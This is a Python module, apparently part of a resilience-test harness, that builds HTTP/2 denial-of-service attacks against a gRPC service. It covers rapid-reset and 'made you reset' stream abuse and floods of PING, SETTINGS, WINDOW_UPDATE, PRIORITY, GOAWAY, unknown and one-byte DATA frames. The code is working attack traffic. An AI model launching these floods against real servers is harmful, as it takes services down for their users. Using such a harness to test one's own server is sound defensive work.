"""Frames that cost the sender nothing, without end."""

import struct
from collections.abc import Callable, Iterator
from itertools import count

from attack import Attack, Burst, End
from http2 import (
    ACK, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INTERACT, PING, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, call_fields, frame, settings,
)  # fmt: skip

FRAMES_PER_BURST = 500
LIST = "/interaction.inspector.v1.InspectorService/ListExperiences"
UNKNOWN = 0xBB
CANCEL = struct.pack(">I", 8)
OPEN_CALL = frame(HEADERS, END_HEADERS, 1, call_fields())
LONG_MESSAGE = frame(HEADERS, END_HEADERS, 1, call_fields(LIST)) + frame(
    DATA, 0, 1, struct.pack(">BI", 0, 4 << 20))


def flood(data: bytes, *, first: bytes = b"", flow: int = 0) -> Callable[[], Iterator[Burst]]:
    """The same frame again and again; `flow` is its part of the window."""
    number = max(1, min(FRAMES_PER_BURST, 65_536 // len(data)))

    def bursts() -> Iterator[Burst]:
        if first:
            yield Burst(first, 1)
        burst = Burst(data * number, number, flow * number)
        while True:
            yield burst

    return bursts


def streams(*parts: Callable[[int], bytes], at_once: int = 50) -> Callable[[], Iterator[Burst]]:
    """Streams without end, each of which gets these frames."""

    def bursts() -> Iterator[Burst]:
        for first in count(1, 2 * at_once):
            numbers = range(first, first + 2 * at_once, 2)
            data = b"".join(part(stream) for stream in numbers for part in parts)
            yield Burst(data, at_once * len(parts))

    return bursts


def on_stream(kind: int, flags: int, payload: bytes) -> Callable[[int], bytes]:
    start, end = frame(kind, flags, 0, payload)[:5], payload
    return lambda stream: start + struct.pack(">I", stream) + end


def call(path: str = INTERACT, flags: int = END_HEADERS) -> Callable[[int], bytes]:
    return on_stream(HEADERS, flags, call_fields(path))


WHOLE_CALL = call(LIST, END_HEADERS | END_STREAM)
NO_STEP = struct.pack(">I", 0)
GREAT_STEP = struct.pack(">I", 0x7FFF_FFFF)
STEP = struct.pack(">I", 1)


def itself(stream: int) -> bytes:
    """A stream that depends on itself."""
    return frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 0))


ATTACKS = [
    Attack("rapid reset", streams(call(), on_stream(RST_STREAM, 0, CANCEL))),
    Attack("rapid reset of whole calls", streams(WHOLE_CALL, on_stream(RST_STREAM, 0, CANCEL))),
    Attack("made you reset: window step 0", streams(call(), on_stream(WINDOW_UPDATE, 0, NO_STEP))),
    Attack("made you reset: window too large",
           streams(call(), on_stream(WINDOW_UPDATE, 0, GREAT_STEP))),
    Attack("made you reset: DATA after the end",
           streams(call(INTERACT, END_HEADERS | END_STREAM), on_stream(DATA, 0, b"late"))),
    Attack("made you reset: priority of itself", streams(call(), itself)),
    Attack("made you reset: short PRIORITY", streams(call(), on_stream(PRIORITY, 0, b"\0"))),
    Attack("PING flood", flood(frame(PING, 0, 0, bytes(8)))),
    Attack("PING flood, unread", flood(frame(PING, 0, 0, bytes(8))), reads=False),
    Attack("PING answers without a PING", flood(frame(PING, ACK, 0, bytes(8)))),
    Attack("SETTINGS flood", flood(settings())),
    Attack("SETTINGS flood, unread", flood(settings()), reads=False),
    Attack("SETTINGS of 2700 entries", flood(frame(
        SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535) * 2700))),
    Attack("SETTINGS answers without SETTINGS", flood(frame(SETTINGS, ACK, 0, b""))),
    Attack("WINDOW_UPDATE flood, connection", flood(frame(WINDOW_UPDATE, 0, 0, STEP))),
    Attack("WINDOW_UPDATE flood, stream",
           flood(frame(WINDOW_UPDATE, 0, 1, STEP), first=OPEN_CALL)),
    Attack("PRIORITY flood", flood(frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 1)))),
    Attack("unknown frames", flood(frame(UNKNOWN, 0, 0, b""))),
    Attack("unknown frames of 16 KiB", flood(frame(UNKNOWN, 0, 0, bytes(16_384)))),
    Attack("GOAWAY flood", flood(frame(GOAWAY, 0, 0, bytes(8)))),
    Attack("empty DATA flood", flood(frame(DATA, 0, 1, b""), first=OPEN_CALL)),
    # What comes of it after the stream's end is an error of the connection.
    Attack("DATA of 1 byte", flood(frame(DATA, 0, 1, b"\0"), flow=1, first=LONG_MESSAGE),
           end=End.STREAMS, is_alone=True),
    # Sooner than a connection without a call has to go.
    Attack("DATA of 1 byte, on and on", flood(frame(DATA, 0, 1, b"\0"), flow=1, first=LONG_MESSAGE),
           within=2.5),
    # Seconds of them wait in the kernel.
    Attack("whole calls", streams(WHOLE_CALL), end=End.NOTHING, is_alone=True,
           is_work=True),
]
